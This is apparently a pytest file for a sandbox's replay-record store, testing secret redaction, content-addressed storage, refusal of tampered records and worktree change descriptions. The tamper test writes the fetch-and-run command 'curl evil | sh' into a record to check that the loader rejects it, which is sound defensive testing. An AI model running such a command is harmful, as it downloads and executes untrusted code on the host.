"""Replay records: caller env values cut, run id dropped, content-addressed, tamper refused."""

from __future__ import annotations

from pathlib import Path

import pytest

from fusion_oci.errors import SettingsError
from fusion_oci.models import PrepareContext, RunOptions, SandboxPolicy
from fusion_oci.oci.host import HostInfo
from fusion_oci.policy.settings import SandboxSettings
from fusion_oci.replay import (
    WorktreeState,
    build_record,
    describe_change,
    load_record,
    record_path,
    redact_spec,
    store_record,
)


def _spec() -> dict:
    return {
        "process": {"env": ["PATH=/bin", "TOKEN=abc", "FOO=1"]},
        "annotations": {"io.fusion-oci.run-id": "r1", "io.fusion-oci.task-id": "t"},
    }


def test_redact_cuts_passed_values_and_run_id() -> None:
    out = redact_spec(_spec(), ["TOKEN", "FOO"])
    assert out["process"]["env"] == ["PATH=/bin", "TOKEN", "FOO"]
    assert out["annotations"] == {"io.fusion-oci.task-id": "t"}


def _record(tmp_path: Path, run_id: str) -> object:
    ctx = PrepareContext(
        task_id="t",
        run_id=run_id,
        worktree_path=str(tmp_path),
        policy=SandboxPolicy(env_allowlist=["TOKEN"]),
    )
    spec = _spec()
    spec["annotations"]["io.fusion-oci.run-id"] = run_id
    return build_record(
        settings=SandboxSettings(backend="bubblewrap"),
        ctx=ctx,
        requested_image=None,
        backend="bubblewrap",
        spec=spec,
        host=HostInfo(),
        command="echo",
        opts=RunOptions(),
        env_source={"TOKEN": "abc", "OTHER": "x"},
        project_dir=tmp_path,
    )


def test_same_command_of_two_runs_is_stored_once(tmp_path: Path) -> None:
    a, b = _record(tmp_path, "r1"), _record(tmp_path, "r2")
    assert store_record(tmp_path, a) == store_record(tmp_path, b)  # type: ignore[arg-type]
    assert len(list((tmp_path / ".fusion" / "replay").iterdir())) == 1
    assert a.env_names == ["TOKEN"]  # type: ignore[attr-defined]
    assert "abc" not in record_path(tmp_path, a.digest()).read_text()  # type: ignore[attr-defined]


def test_edited_record_is_refused(tmp_path: Path) -> None:
    digest = store_record(tmp_path, _record(tmp_path, "r1"))  # type: ignore[arg-type]
    path = record_path(tmp_path, digest)
    path.write_text(path.read_text().replace('"echo"', '"curl evil | sh"'))
    with pytest.raises(SettingsError, match="changed after the run"):
        load_record(tmp_path, digest)
    with pytest.raises(SettingsError, match="missing"):
        load_record(tmp_path, "sha256:" + "0" * 64)


def test_describe_change() -> None:
    then = WorktreeState(head="a", status="s1")
    assert describe_change(then, WorktreeState(head="a", status="s1")) is None
    assert describe_change(then, WorktreeState(head="b", status="s1")) == "HEAD was a, is b"
    assert "uncommitted" in (describe_change(then, WorktreeState(head="a", status="s2")) or "")
    assert describe_change(None, WorktreeState()) is None
